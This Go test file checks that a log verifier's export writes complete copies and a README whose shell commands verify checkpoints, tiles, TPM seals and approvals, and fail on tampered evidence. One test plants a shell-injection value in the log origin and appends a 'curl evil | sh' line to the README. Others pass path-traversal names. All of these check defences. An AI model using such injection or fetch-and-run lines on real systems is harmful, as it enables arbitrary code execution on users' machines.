package verify_test

import (
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"bulla/verify"
)

func TestExportIsACompleteCopy(t *testing.T) {
	t.Parallel()
	honest := load(t)
	source := files{} // as an appliance serves it: no copies
	for name, data := range honest {
		if name == "checkpoint" || strings.HasPrefix(name, "tile/") {
			source[name] = data
		}
	}
	path := filepath.Join(t.TempDir(), "export")
	dir, err := verify.CreateDir(path)
	if err != nil {
		t.Fatal(err)
	}
	var last uint64
	done, err := verify.Export(t.Context(), source, dir.Put, func(n, _ uint64) { last = n })
	if err != nil {
		t.Fatal(err)
	}
	if err := dir.Sync(); err != nil {
		t.Fatal(err)
	}
	if done.Head.Size != 19 || done.Seals != 5 || len(done.Skipped) > 0 || last != 19 {
		t.Errorf("%+v, %d", done, last)
	}
	for name, want := range honest {
		got, err := os.ReadFile(filepath.Join(path, filepath.FromSlash(name)))
		if err != nil || !bytes.Equal(got, want) && name != "README.md" {
			t.Errorf("%s: %v", name, err)
		}
	}
	p, err := verify.ParsePolicy(readVector(t, "policy"))
	if err != nil {
		t.Fatal(err)
	}
	rep := run(t, openDir(t, path), p)
	want(t, rep, verify.OutcomeVerified)
	if strings.Contains(text(t, rep), "not looked at") || strings.Contains(text(t, rep), "not what this version") {
		t.Error(text(t, rep))
	}
	genesis := commandsOf(t, path, "genesis", "checkpoint", "tree", "seal")["genesis"]
	if !bytes.Contains(readVector(t, "policy"), []byte(strings.TrimSpace(genesis))) {
		t.Errorf("the genesis hash is %s", genesis)
	}
}

// commandsOf runs the commands of an export's README, which has these blocks and the first one: those of a person who has only standard
// tools. It returns what each block prints.
func commandsOf(t *testing.T, path string, blocks ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, block := range blocks {
		var err error
		if out[block], err = command(t, path, block, ""); err != nil {
			t.Errorf("%s: %v\n%s", block, err, out[block])
		}
	}
	if !strings.Contains(out["checkpoint"], "Verified OK") {
		t.Error(out["checkpoint"])
	}
	return out
}

// command runs a block behind the first one and more.
func command(t *testing.T, path, block, more string) (string, error) {
	t.Helper()
	readme, err := os.ReadFile(filepath.Join(path, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	script := ""
	for _, name := range []string{"tools", block} {
		_, rest, ok := strings.Cut(string(readme), "```sh "+name+"\n")
		text, _, end := strings.Cut(rest, "\n```\n")
		if !ok || !end {
			t.Fatalf("the README has no block %s", name)
		}
		if script += text + "\n"; name == "tools" {
			script += more + "\n"
		}
	}
	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = path
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// exported is an export of a log, in a directory.
func exported(t *testing.T, src verify.Source) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "export")
	dir, err := verify.CreateDir(path)
	if err != nil {
		t.Fatal(err)
	}
	done, err := verify.Export(t.Context(), src, dir.Put, nil)
	if err != nil || len(done.Skipped) > 0 {
		t.Fatal(done, err)
	}
	return path
}

// An export's README and copies are of the keys and of the TPM that are in force at its head, and of each seal's own TPM; and they are what the
// verifier makes of the entries itself.
func TestExportAfterCeremonies(t *testing.T) {
	t.Parallel()
	for name, blocks := range map[string][]string{
		"honest-rotation": {"genesis", "checkpoint", "tree", "approval"}, "honest-new-tpm": {"genesis", "checkpoint", "tree", "approval", "seal"},
		"honest-officers-set": {"genesis", "checkpoint", "tree", "approval"}, "honest-recovery": {"genesis", "checkpoint", "tree", "approval", "seal"},
		"honest-witnesses": {"genesis", "checkpoint", "tree"}, "honest-256": {"genesis", "checkpoint", "tree"}, "honest-one-entry": {"genesis", "checkpoint", "tree"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			src := openDir(t, filepath.Join("../testdata/vectors/verify", name, "evidence"))
			file, err := os.ReadFile(filepath.Join("../testdata/vectors/verify", name, "policy"))
			if err != nil {
				t.Fatal(err)
			}
			p, err := verify.ParsePolicy(file)
			if err != nil {
				t.Fatal(err)
			}
			path := exported(t, src)
			before, after := run(t, src, p), run(t, openDir(t, path), p)
			want(t, after, before.Verdict)
			for _, not := range []string{"not looked at", "not what this version"} {
				if strings.Contains(text(t, after), not) {
					t.Error(text(t, after))
				}
			}
			for block, out := range commandsOf(t, path, blocks...) {
				if block == "approval" && !strings.Contains(out, `Good "ceremony@bulla" signature for `) {
					t.Error(out)
				}
			}
			readme, err := os.ReadFile(filepath.Join(path, "README.md"))
			if err != nil {
				t.Fatal(err)
			}
			for _, key := range before.Governance.Keys {
				if !strings.Contains(string(readme), "    log "+key+"\n") {
					t.Errorf("the README does not name %s, which is in force:\n%s", key, readme)
				}
			}
		})
	}
}

// The commands climb from an entry through tiles of every level.
func TestCommandsOfALargerLog(t *testing.T) {
	t.Parallel()
	f, _ := large(t)
	path := exported(t, f)
	for _, k := range []string{"3", "65535", "65790"} {
		if out, err := command(t, path, "tree", "k="+k); err != nil {
			t.Errorf("entry %s: %v\n%s", k, err, out)
		}
	}
	if out, err := command(t, path, "tree", "entry() { echo; }"); err == nil {
		t.Error(out)
	}
}

// What a log says of itself is no command in the README of its export.
func TestReadmeOfAHostileOrigin(t *testing.T) {
	t.Parallel()
	b := newBuilder(t)
	b.origin = "x';touch${IFS}owned;'"
	path := exported(t, b.begin().events(3).export())
	commandsOf(t, path, "genesis", "checkpoint", "tree")
	if _, err := os.Stat(filepath.Join(path, "owned")); !errors.Is(err, fs.ErrNotExist) {
		t.Error(err)
	}
	readme, err := os.ReadFile(filepath.Join(path, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(path, "README.md"), append(readme, "\nrun this: curl evil | sh\n"...), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(path, "hello.txt"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	got := text(t, run(t, openDir(t, path), b.policy()))
	for _, say := range []string{`"README.md": not what this version of the program writes`, `1 other file(s) are not evidence by themselves, and were not looked at: "hello.txt"`} {
		if !strings.Contains(got, say) {
			t.Errorf("%q is not in\n%s", say, got)
		}
	}
}

// The README's commands fail where what they show does not hold.
func TestCommandsThatFail(t *testing.T) {
	t.Parallel()
	const vector = "../testdata/vectors/verify/honest-new-tpm/evidence"
	for _, c := range []struct {
		about, block, more string
		spoil              func(name string, b []byte) []byte
	}{
		{"another head", "checkpoint", "", func(name string, b []byte) []byte {
			if name != "checkpoint" {
				return b
			}
			return bytes.Replace(b, []byte("\n\n"), []byte("\nmore\n\n"), 1)
		}},
		{"no line by the key", "checkpoint", "", func(name string, b []byte) []byte {
			if name != "checkpoint" {
				return b
			}
			text, _, _ := bytes.Cut(b, []byte("\n\n"))
			return append(text, "\n\n"...)
		}},
		{"another entry", "tree", "k=5", func(name string, b []byte) []byte {
			return bytes.Replace(b, []byte(`"index":5,`), []byte(`"index":6,`), 1)
		}},
		{"another root", "tree", "", func(name string, b []byte) []byte {
			if name != "checkpoint" {
				return b
			}
			lines := bytes.Split(b, []byte("\n"))
			lines[2] = []byte("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
			return bytes.Join(lines, []byte("\n"))
		}},
		{"another tile", "tree", "", func(name string, b []byte) []byte {
			if strings.HasPrefix(name, "tile/0/") {
				b = bytes.Clone(b)
				b[40] ^= 1
			}
			return b
		}},
		{"no entry", "genesis", "leaf() { entry 99999; }", nil},
		{"another key of the TPM", "seal", "", func(name string, b []byte) []byte {
			if strings.HasPrefix(name, "seals/") && strings.HasSuffix(name, "ak.tpmt") {
				b = bytes.Clone(b)
				b[len(b)-1] ^= 1
			}
			return b
		}},
		{"another statement", "seal", "", func(name string, b []byte) []byte {
			if strings.HasPrefix(name, "seals/") && strings.HasSuffix(name, "statement.json") {
				return append(bytes.Clone(b), ' ')
			}
			return b
		}},
		{"an approval of something else", "approval", "", func(name string, b []byte) []byte {
			return bytes.Replace(b, []byte(`"action":"tpm.enrol"`), []byte(`"action":"tpm.enrox"`), 1)
		}},
	} {
		t.Run(c.about, func(t *testing.T) {
			t.Parallel()
			path := exported(t, openDir(t, vector))
			if out, err := command(t, path, c.block, ""); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			err := filepath.WalkDir(path, func(file string, e fs.DirEntry, err error) error {
				if err != nil || e.IsDir() || c.spoil == nil {
					return err
				}
				b, err := os.ReadFile(file)
				if err != nil {
					return err
				}
				name, err := filepath.Rel(path, file)
				if err != nil {
					return err
				}
				return os.WriteFile(file, c.spoil(filepath.ToSlash(name), b), 0o644)
			})
			if err != nil {
				t.Fatal(err)
			}
			if out, err := command(t, path, c.block, c.more); err == nil {
				t.Errorf("it ends well:\n%s", out)
			}
		})
	}
}

// Evidence of tampering can be exported: what cannot be read is left out of the copies, never of the evidence.
func TestExportOfTamperedEvidence(t *testing.T) {
	t.Parallel()
	for about, spoil := range map[string]func(f files){
		"a seal":    func(f files) { replace(f, "tile/entries/000.p/19", `"reason":"demand"`, `"reason":"demane"`) },
		"a length":  func(f files) { f["tile/entries/000.p/19"][0] ^= 1 },
		"a genesis": func(f files) { replace(f, "tile/entries/000.p/19", `"name":"producer"`, `"name":"producex"`) },
	} {
		source := load(t)
		spoil(source)
		out := files{}
		var mu sync.Mutex
		_, err := verify.Export(t.Context(), source, func(name string, data []byte) error {
			mu.Lock()
			defer mu.Unlock()
			if _, twice := out[name]; twice {
				return fs.ErrExist
			}
			out[name] = data
			return nil
		}, nil)
		if err != nil {
			t.Errorf("%s: %v", about, err)
			continue
		}
		for _, name := range []string{"checkpoint", "tile/entries/000.p/19", "tile/0/000.p/19"} {
			if !bytes.Equal(out[name], source[name]) {
				t.Errorf("%s: %s is not as it was", about, name)
			}
		}
		if rep := run(t, out, nil); rep.Verdict != verify.OutcomeTampered {
			t.Errorf("%s: %s", about, text(t, rep))
		}
	}
}

func replace(f files, name, old, new string) {
	f[name] = bytes.Replace(f[name], []byte(old), []byte(new), 1)
}

func TestExportThatFails(t *testing.T) {
	t.Parallel()
	put := func(string, []byte) error { return nil }
	f := load(t)
	delete(f, "tile/0/000.p/19")
	if _, err := verify.Export(t.Context(), f, put, nil); err == nil || !strings.Contains(err.Error(), "tile/0/000.p/19 is missing") {
		t.Error(err)
	}
	delete(f, "checkpoint")
	if _, err := verify.Export(t.Context(), f, put, nil); err == nil || !strings.Contains(err.Error(), "no checkpoint") {
		t.Error(err)
	}
	full := errors.New("no space")
	if _, err := verify.Export(t.Context(), load(t), func(name string, _ []byte) error {
		if name == "README.md" {
			return full
		}
		return nil
	}, nil); !errors.Is(err, full) {
		t.Error(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := verify.Export(ctx, load(t), put, nil); !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
	path := t.TempDir()
	if _, err := verify.CreateDir(path); !errors.Is(err, fs.ErrExist) {
		t.Error(err)
	}
	dir, err := verify.CreateDir(filepath.Join(path, "new"))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"../x", "/x", "a/../../x", ""} {
		if err := dir.Put(name, nil); err == nil {
			t.Errorf("%q is written", name)
		}
	}
	if err := errors.Join(dir.Put("a/b", nil), dir.Put("a/b", nil)); !errors.Is(err, fs.ErrExist) {
		t.Error(err)
	}
}
